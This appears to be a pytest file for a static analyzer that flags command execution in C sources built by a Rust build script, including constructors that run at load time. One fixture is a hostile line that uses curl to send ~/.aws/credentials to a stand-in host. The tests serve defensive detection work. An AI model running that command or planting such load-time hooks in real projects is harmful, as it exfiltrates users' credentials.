"""C sources: what a constructor does is seen, a vendored library's own calls say nothing."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from analyzer.model import Fact, Phase, Report, Span
from analyzer.syntax.foreign import foreign_calls

ReportOf = Callable[[Mapping[str, str]], Report]

BUILD = 'fn main() { cc::Build::new().file("native/shim.c").compile("shim"); }'


def of_c(report: Report) -> list[Fact]:
    return [
        one
        for one in report.facts
        if isinstance(one.where, Span) and one.where.file.endswith((".c", ".cpp"))
    ]


@pytest.mark.parametrize(
    "text",
    [
        'static void __attribute__((constructor)) go(void) {\n  system("id");\n}',
        '__attribute__((constructor(101))) static void go()\n{ popen("id", "r"); }',
        'static void step() {\nexeclp("id", "id", 0); }\n'
        "void __attribute__((__constructor__)) go(void) { step(); }",
        'extern "C" { __attribute__((constructor)) void go() {\n system("i" "d"); } }',
    ],
)
def test_a_constructor_runs_its_commands_at_load_time(report_of: ReportOf, text: str) -> None:
    found = of_c(report_of({"build.rs": BUILD, "native/shim.c": text}))
    runs = [one for one in found if one.kind.startswith("process.") and one.api.startswith("c:")]
    assert [(one.subject, one.phases) for one in runs] == [("id", (Phase.LOAD,))]
    assert [one.where.line for one in runs if isinstance(one.where, Span)] == [2]


def test_a_command_in_plain_text_is_read_as_shell_text(report_of: ReportOf) -> None:
    text = 'int f(void) { return system("curl -d @/home/u/.aws/credentials http://x.invalid"); }'
    found = of_c(report_of({"build.rs": BUILD, "native/shim.c": text}))
    assert {"process.shell", "net.send", "file.read"} <= {one.kind.value for one in found}
    assert {one.phases for one in found} == {(Phase.LIBRARY,)}


def test_what_no_build_script_names_is_unreached(report_of: ReportOf) -> None:
    found = of_c(report_of({"vendor/x.c": 'int f(void) { return system("id"); }'}))
    assert {one.phases for one in found} == {(Phase.UNREACHED,)}


def test_sockets_and_files_of_an_honest_library_say_nothing(report_of: ReportOf) -> None:
    text = (
        'int f(int s) { connect(s, 0, 0); fopen("/etc/hosts", "r"); return getenv("HOME") != 0; }'
    )
    assert of_c(report_of({"build.rs": BUILD, "native/shim.c": text})) == []


@pytest.mark.parametrize("data", [b"", b"{" * 5000, b'void f() { g("', b"\xff\0constructor("])
def test_any_bytes_are_read(data: bytes) -> None:
    foreign_calls(data)
